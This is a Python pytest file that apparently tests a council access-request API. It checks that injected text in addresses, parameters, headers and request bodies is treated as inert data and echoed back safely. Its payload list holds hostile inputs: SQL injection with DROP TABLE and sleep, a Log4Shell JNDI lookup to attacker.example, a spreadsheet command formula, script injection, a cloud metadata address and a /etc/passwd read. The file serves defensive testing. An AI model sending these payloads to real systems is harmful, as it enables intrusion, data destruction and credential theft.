"""Text that would be a command to a database, a spreadsheet or a terminal is text here, wherever it is sent."""

from __future__ import annotations

import time

import pytest

from tests.api.calling import COUNCIL, Service
from tests.api.test_nobody_without_a_token import bearer

PAYLOADS = (
    "' OR '1'='1",
    "'; DROP TABLE access_request; --",
    '" OR ""="',
    "1) UNION SELECT name FROM person --",
    "%' AND sleep(5) --",
    "$$; SELECT pg_sleep(5); $$",
    "%",
    "_",
    "\\",
    "${jndi:ldap://attacker.example/x}",
    "{{7*7}}",
    "=cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "http://169.254.169.254/latest/meta-data/",
    "file:///etc/passwd",
)
PLACES = ("requests", "documents", "rules", "register/people", "register/bodies", "register/meetings")
SLOW = 5.0
"""What each of them would take at least if its pause were carried out."""


@pytest.mark.parametrize("payload", PAYLOADS)
def test_r157_r158_in_an_address_or_a_parameter_it_names_nothing(steady: Service, payload: str) -> None:
    signed, began = bearer(steady.token("auditor")), time.monotonic()
    for place in PLACES:
        answer = steady.send("GET", steady_path(place, payload), headers=signed)
        assert answer.status_code == 404, (place, answer.text)
    assert time.monotonic() - began < SLOW * len(PLACES)
    assert steady.get("/queue", "d1", params={"stage": payload}).json()["waiting"] == []
    for name in ("limit", "cursor", payload[:20] or "x"):
        assert steady.get("/requests", params={name: payload}).status_code == 422
    for header in ("Acting-As", "On-Behalf-Of"):
        assert steady.get("/me", headers={header: payload}).status_code in {404, 422}


def steady_path(place: str, payload: str) -> str:
    """The address with the text where an id should stand, spelt as addresses are."""
    spelt = "".join(f"%{byte:02x}" for byte in payload.encode())
    return f"{COUNCIL}/{place}/{spelt}"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_r153_r156_r157_in_a_body_it_is_kept_and_given_back_letter_for_letter(service: Service, payload: str) -> None:
    made = service.post("/requests", given={"descriptions": [payload], "purpose": payload})
    assert made.status_code == 201, made.text
    read = service.get(f"/requests/{made.json()['request_id']}")
    told = "\n".join(str(each["words"]) for each in read.json()["timeline"])
    assert payload in told
    assert read.headers["content-type"] == "application/json"
    assert read.headers["x-content-type-options"] == "nosniff"
    assert len(service.get("/requests").json()["requests"]) == 1
